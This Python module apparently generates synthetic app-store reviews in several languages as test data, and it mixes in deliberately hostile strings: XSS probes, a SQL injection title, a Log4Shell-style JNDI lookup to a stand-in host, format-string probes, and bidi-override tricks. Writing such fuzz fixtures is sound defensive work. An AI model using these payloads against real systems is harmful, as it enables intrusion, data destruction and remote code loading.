"""What people write: praise, complaints and trouble, in the languages of the storefronts.

Titles, bodies and nicknames come from strangers, so some of them are hostile on purpose: commands of chat
programs, markup, links, control and direction characters, and a text far too long for any message.
"""

from __future__ import annotations

import random
from dataclasses import dataclass

HOSTILE_SHARE = 0.08
"""Of all reviews: enough that every long story has some."""

UNTITLED = ""


@dataclass(frozen=True, slots=True)
class Storefront:
    """`territory` is the App Store's ISO alpha-3 word, `country` the lookup's two letters.

    `weight`: its part of all ratings in percent.
    """

    territory: str
    country: str
    language: str
    weight: int


STOREFRONTS = (
    Storefront("USA", "us", "en", 40),
    Storefront("DEU", "de", "de", 12),
    Storefront("GBR", "gb", "en", 10),
    Storefront("JPN", "jp", "ja", 8),
    Storefront("BRA", "br", "pt", 8),
    Storefront("FRA", "fr", "fr", 7),
    Storefront("ESP", "es", "es", 5),
    Storefront("IND", "in", "hi", 5),
    Storefront("SAU", "sa", "ar", 3),
    Storefront("ISR", "il", "he", 2),
)
"""Where the emulated apps are sold."""

_WEIGHTS = tuple(front.weight for front in STOREFRONTS)

_PRAISE = {
    "en": (("Love it", "Does what it says, every day."), ("Great update", "Much faster than before.")),
    "de": (("Sehr gut", "Läuft bei mir ohne Probleme, schön schnell."),),
    "ja": (("最高", "毎日使っています。とても便利です。"),),
    "pt": (("Ótimo", "Não vivo mais sem este aplicativo."),),
    "fr": (("Très pratique", "Simple et efficace, rien à redire."),),
    "es": (("Muy útil", "Funciona perfectamente, lo recomiendo."),),
    "hi": (("बहुत अच्छा", "रोज़ इस्तेमाल करता हूँ, बढ़िया ऐप है।"),),
    "ar": (("ممتاز", "تطبيق رائع وسهل الاستخدام."),),
    "he": (("מצוין", "עובד מהר ובלי תקלות."),),
}
_COMPLAINTS = {
    "en": (("Crashes", "Crashes every time since the last update."), ("Broken", "Cannot log in any more.")),
    "de": (("Stürzt ab", "Seit dem Update stürzt die App dauernd ab."),),
    "ja": (("落ちる", "アップデートしてから起動できません。"),),
    "pt": (("Travando", "Depois da atualização não abre mais."),),
    "fr": (("Plante", "Impossible d'ouvrir l'appli depuis la mise à jour."),),
    "es": (("No funciona", "Se cierra sola desde la última versión."),),
    "hi": (("खराब", "अपडेट के बाद ऐप बार-बार बंद हो जाता है।"),),
    "ar": (("سيئ", "يتوقف التطبيق عن العمل بعد التحديث."),),
    "he": (("קורס", "האפליקציה קורסת מאז העדכון."),),
}
_MIDDLING = (("Okay", "Could be better, could be worse."), ("So so", "Used to be nicer."))

LONGEST = "The update ate my homework. " * 365
"""About 10 kB."""

HOSTILE = (
    ("<!channel> look", "<!channel> <!here> <@U0ADMIN> your app is broken"),
    ("*bold* _move_", "~struck~ `code` ```block``` > quote\n> another line"),
    ("Click me", "Win at http://evil.example.invalid/?a=1&b=2 or <https://evil.example.invalid|your bank>"),
    ("[link](javascript:alert(1))", "<script>alert(1)</script> & <b>bold</b> &amp; &lt;"),
    ("Bell\x07 and \x1b[31mred\x1b[0m", "a\x00b\x08c\x7fd\r\nnext\ttabbed\u2028line\u2029paragraph"),
    ("\u202egnp.exe\u202c", "\u200f\u05e9\u05dc\u05d5\u05dd\u200e abc \u2066isolated\u2069 \u202eevil\u202c"),
    ("🔥🔥🔥", "👩‍👩‍👧‍👦 🇩🇪 🏳️‍🌈 👍🏽 Z̷̛̹a̶͖͝l̴̲̈g̸̰͋o̵̗͠"),
    ("Long story", LONGEST),
    ("'; DROP TABLE reviews; --", "{{7*7}} ${jndi:ldap://evil.example.invalid/a} %s %n {0}"),
)

_NICKNAMES = ("Sam", "mobile_fan_77", "Ana Luísa", "山田", "Кирилл", "مريم", "J. Doe", "anonymous")
_HOSTILE_NICKNAMES = ("<!here>", "\u202enimda\u202c", "*admin*", "a\x00b", "@channel")


def storefront(draw: random.Random) -> Storefront:
    """Where a rating comes from, as the storefronts' weights say."""
    return draw.choices(STOREFRONTS, _WEIGHTS)[0]


def words(draw: random.Random, stars: int, language: str) -> tuple[str, str]:
    """A title and a body that suit `stars`, now and then hostile ones instead."""
    if draw.random() < HOSTILE_SHARE:
        return draw.choice(HOSTILE)
    if stars == 3:
        return draw.choice(_MIDDLING)
    return draw.choice((_PRAISE if stars > 3 else _COMPLAINTS)[language])


def nickname(draw: random.Random) -> str:
    """What a reviewer calls themselves."""
    return draw.choice(_HOSTILE_NICKNAMES if draw.random() < HOSTILE_SHARE else _NICKNAMES)
